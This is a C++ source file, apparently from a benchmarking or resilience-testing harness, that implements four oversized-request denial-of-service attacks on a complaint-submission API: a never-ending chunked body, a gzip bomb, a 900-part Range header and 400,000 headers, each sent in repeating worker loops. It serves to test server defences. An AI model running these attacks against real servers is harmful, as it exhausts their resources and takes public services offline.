// Attacks with oversized requests: a chunked body that never ends, a gzip
// bomb, a Range header of 900 parts, and 400,000 headers.
#include <zlib.h>

#include <cstdio>
#include <utility>

#include "attacks.hpp"

namespace lizheng::bench {
namespace {

constexpr std::size_t kMiB = 1024 * 1024;
constexpr std::size_t kChunkedBodyBytes = 300 * kMiB;
constexpr std::size_t kChunkBytes = 64 * 1024;
constexpr std::size_t kBombInflatedBytes = 200 * kMiB;
constexpr int kRangeParts = 900;
constexpr int kHeaderCount = 400000;

// A submission a server would accept, should it get that far.
constexpr const char* kSubmission =
    R"({"type":"complaint","title":"路灯不亮","detail":"滨江路路灯连续三晚不亮。",)"
    R"("area_code":"dh-01","consent_public":false})";

// gzip of 200 MiB of JSON whitespace followed by a valid submission: about
// 200 KB on the wire, and valid JSON once inflated. About a second to make.
std::string MakeGzipBomb() {
  z_stream z{};
  deflateInit2(&z, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 9, Z_RLE);
  std::string out, in(kMiB, ' ');
  std::string buffer(kMiB, '\0');
  auto pump = [&](const std::string& data, int flush) {
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
    z.avail_in = static_cast<uInt>(data.size());
    do {
      z.next_out = reinterpret_cast<Bytef*>(buffer.data());
      z.avail_out = static_cast<uInt>(buffer.size());
      deflate(&z, flush);
      out.append(buffer.data(), buffer.size() - z.avail_out);
    } while (z.avail_out == 0);
  };
  for (std::size_t done = 0; done < kBombInflatedBytes; done += in.size()) pump(in, Z_NO_FLUSH);
  pump(kSubmission, Z_FINISH);
  deflateEnd(&z);
  return out;
}

const std::string& GzipBombPayload() {
  static const std::string kPayload = MakeGzipBomb();
  return kPayload;
}

}  // namespace

void PrepareGzipBomb() {
  GzipBombPayload();
}

void ChunkedBody(const AttackContext& ctx, Tally& tally) {
  const std::string head =
      BuildRequest("POST", "/api/v1/requests", ctx.target,
                   {{"Content-Type", "application/json"}, {"Transfer-Encoding", "chunked"}});
  char size_line[32];
  std::snprintf(size_line, sizeof size_line, "%zx\r\n", kChunkBytes);
  const std::string opening = R"({"type":"complaint","title":")";
  const std::string chunk =
      size_line + opening + std::string(kChunkBytes - opening.size(), 'a') + "\r\n";
  const std::string filler = size_line + std::string(kChunkBytes, 'a') + "\r\n";
  RunWorkers(ctx.connections, [&](int) {
    while (!ctx.stop.load()) {
      std::size_t sent = 0;
      SendOversized(
          ctx, head,
          [&]() -> std::string_view {
            if (sent >= kChunkedBodyBytes + kChunkBytes) return {};
            sent += kChunkBytes;
            if (sent == kChunkBytes) return chunk;
            return sent <= kChunkedBodyBytes ? std::string_view(filler) : "0\r\n\r\n";
          },
          tally);
    }
  });
}

void GzipBomb(const AttackContext& ctx, Tally& tally) {
  const std::string& payload = GzipBombPayload();
  const std::string head = BuildRequest("POST", "/api/v1/requests", ctx.target,
                                        {{"Content-Type", "application/json"},
                                         {"Content-Encoding", "gzip"},
                                         {"Content-Length", std::to_string(payload.size())}});
  RunWorkers(ctx.connections, [&](int) {
    while (!ctx.stop.load()) {
      bool done = false;
      SendOversized(
          ctx, head,
          [&]() -> std::string_view {
            return std::exchange(done, true) ? std::string_view() : payload;
          },
          tally);
    }
  });
}

void RangeParts(const AttackContext& ctx, Tally& tally) {
  // Every part the whole list: the largest answer a multi-range server gives.
  std::string ranges = "bytes=0-";
  for (int i = 1; i < kRangeParts; ++i) ranges += ",0-";
  const std::string request =
      BuildRequest("GET", "/api/v1/public/requests?limit=100", ctx.target, {{"Range", ranges}});
  RunWorkers(ctx.connections, [&](int) {
    Connection c;
    std::vector<double> latencies;
    // A multi-range answer may take the server long to build: wait for it.
    while (!ctx.stop.load())
      Exchange(c, ctx, ctx.source, request, tally, latencies, 0, std::chrono::seconds(60));
    tally.AddLatencies(latencies);
  });
}

void ManyHeaders(const AttackContext& ctx, Tally& tally) {
  const std::string head = BuildRequest("GET", "/api/v1/health", ctx.target, {});
  const std::string opening = head.substr(0, head.size() - 2);  // without the blank line
  std::string lines;
  lines.reserve(static_cast<std::size_t>(kHeaderCount) * 8);
  for (int i = 0; i < kHeaderCount; ++i) lines += "X-A: 1\r\n";
  lines += "\r\n";
  RunWorkers(ctx.connections, [&](int) {
    while (!ctx.stop.load()) {
      bool done = false;
      SendOversized(
          ctx, opening,
          [&]() -> std::string_view {
            return std::exchange(done, true) ? std::string_view() : lines;
          },
          tally);
    }
  });
}

}  // namespace lizheng::bench
